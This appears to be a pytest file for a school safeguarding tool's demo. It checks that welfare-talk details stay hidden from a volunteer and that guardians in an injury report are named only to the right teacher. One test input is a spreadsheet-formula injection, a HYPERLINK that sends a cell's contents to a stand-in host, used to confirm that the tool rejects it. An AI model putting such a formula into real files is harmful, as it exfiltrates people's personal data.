"""The breaker's trial of ``guanai demo`` (issue 10, items 8–9), typed again: what each person now reads.

王老师 is the class teacher of 杨秀云 (一年级（1）班); 沈亮 her caring-parent volunteer; 袁老师 the
class teacher of another class; 张强 her entrusted guardian; 杨杨 (#44) her father.
"""

from __future__ import annotations

from tests.support.demo import after, run_demo

CONCERN = "孩子说外公张强喝酒后打她，手臂有淤青"
FORMULA = '=HYPERLINK("http://x.example/?c="&E4,"点我") 13800001111 外祖母'


def _demo(monkeypatch, tmp_path, sample_roster, *lines: str) -> str:
    # --all: what the others receive is asserted too (the demo prints only the current person's messages in full).
    return run_demo(monkeypatch, tmp_path, sample_roster, "\n".join([*lines, "/quit"]) + "\n", "2026-12-04 17:58",
                    "--all")


def test_the_volunteer_reads_that_a_talk_happened_and_the_card_refuses_a_formula(monkeypatch, tmp_path,
                                                                                  sample_roster):
    out = _demo(monkeypatch, tmp_path, sample_roster,
                ":as 王老师", "谈心 杨秀云", "3", "2", "2", "2", CONCERN, "2", "1", "2",  # safety: 2. 有
                ":as 沈亮", "/talks 杨秀云",
                ":as 王老师", "/card 杨秀云", "3", FORMULA)
    assert "[→ 王校长（校领导）]\n王老师在2026年12月4日与杨秀云" in out  # the safeguarding contact hears at once
    talks = after(out, "/talks 杨秀云")
    assert "每月谈心（王老师）：内容仅限学校负责人查看" in talks
    assert "淤青" not in talks and "张强" not in talks and "较差" not in talks
    refused = after(out, FORMULA)
    assert "的开头像电子表格公式：单元格不能以 =、+、- 或 @ 开头" in refused and "已保存" not in refused
    assert "杨秀云的新委托监护人：" in refused


def test_another_class_teacher_reports_and_reads_the_family_by_relation(monkeypatch, tmp_path, sample_roster):
    out = _demo(monkeypatch, tmp_path, sample_roster,
                ":as 袁老师", "报告 杨秀云", "1", "2", "看看", "2", "2", "3",
                "报告 杨秀云", "1", "1", "操场上摔倒，膝盖流血", "1",
                ":wait 31m",
                ":as #44", "我这就给学校打电话")  # 杨杨, her father (a namesake is a guardian)
    preview = after(out, "看看")
    assert "第1步通知：委托监护人" in preview and "张强" not in preview
    assert "1. 委托监护人 2. 返回" in after(out.split("> 看看\n", 1)[1], "2")  # whom to leave out: by relation too
    missed = out.split("[→ 袁老师（班主任）]\n未能按时联系到：", 1)[1].split("\n\n", 1)[0]
    assert missed.startswith("孩子的委托监护人（第1步）") and "已请王老师打电话联系。" in missed
    assert "张强" not in missed and "138 0013 6956" not in missed
    # The class teacher, who knows the family, phones: name, number and a task.
    assert "[→ 王老师（班主任）]\n未能按时联系到：张强（委托监护人，第1步）" in out and "电话：138 0013 6956" in out
    to_class_teacher = out.split("[→ 王老师（班主任）]\n未能按时联系到：", 1)[1].split("\n\n", 1)[0]
    assert "结束事件" in to_class_teacher  # the child's class teacher may close a colleague's report (fix6h)
    assert "1. 结束事件" in missed  # the reporter may
    # The father's own words to the reporter name him, with his phone: she can tell who wrote and call back.
    relayed = out.split("[→ 袁老师（班主任）]\n杨杨（父亲）于", 1)[1].split("\n\n", 1)[0]
    assert "“我这就给学校打电话”" in relayed
